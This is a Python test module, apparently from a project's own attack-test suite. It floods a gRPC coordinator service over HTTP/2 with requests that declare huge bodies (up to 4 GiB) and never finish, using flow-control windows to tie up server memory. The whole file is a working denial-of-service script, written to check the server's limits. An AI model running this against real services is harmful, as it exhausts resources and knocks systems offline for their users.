"""Requests whose end never comes (43): 60 of the greatest length, 60 of 15 MiB, and 600 that say they have 4 GiB."""

from __future__ import annotations

import contextlib
import time

from coordinator.server_limits import MAX_REQUEST_BYTES
from tests.attack.target import Setting, Target
from tests.attack.wire import DATA, SETTINGS, WINDOW_UPDATE, Connection, frame, message

SETTING = Setting(tokens=False)
REQUESTS = 60
_PIECE = bytes(16384)
_METHOD = "coordinator.v1.CoordinatorService/ClaimMany"


def attack(target: Target, share: float) -> str:
    requests = max(20, round(REQUESTS * share))
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(Connection(target.endpoint)) for _ in range(8)]
        for number in range(requests * 10):
            connection = connections[number % len(connections)]
            with contextlib.suppress(OSError):
                _begin(connection, 0xFFFFFFFF)
        sent = 0
        for number in range(requests * 2):
            length = MAX_REQUEST_BYTES if number % 2 else 15 * 1024 * 1024
            with contextlib.suppress(OSError):
                connection = stack.enter_context(Connection(target.endpoint))
                sent += _fill(connection, _begin(connection, length), length - 100)
        time.sleep(1)
    return f"{requests * 12} unfinished requests, {sent >> 20} MiB"


def _begin(connection: Connection, length: int) -> int:
    stream = connection.open(_METHOD)
    connection.send(frame(DATA, 0, stream, message(b"", length=length)))
    return stream


def _fill(connection: Connection, stream: int, most: int) -> int:
    """Send as much of a body as the other side's windows let through."""
    windows, sent, initial = {0: 65535 - 5, stream: 65535 - 5}, 0, 65535
    for kind, flags, on, payload in connection.frames(0.3):
        if kind == SETTINGS and not flags:
            found = {
                payload[at : at + 2]: int.from_bytes(payload[at + 2 : at + 6], "big")
                for at in range(0, len(payload), 6)
            }
            windows[stream] += found.get(b"\0\4", initial) - initial
            initial = found.get(b"\0\4", initial)
            connection.send(frame(SETTINGS, 1, 0))
        elif kind == WINDOW_UPDATE and on in windows:
            windows[on] += int.from_bytes(payload, "big")
        while sent < most and min(windows.values()) > 0:
            piece = _PIECE[: min(*windows.values(), most - sent)]
            connection.send(frame(DATA, 0, stream, piece))
            sent += len(piece)
            for each in windows:
                windows[each] -= len(piece)
        if sent >= most:
            break
    return sent
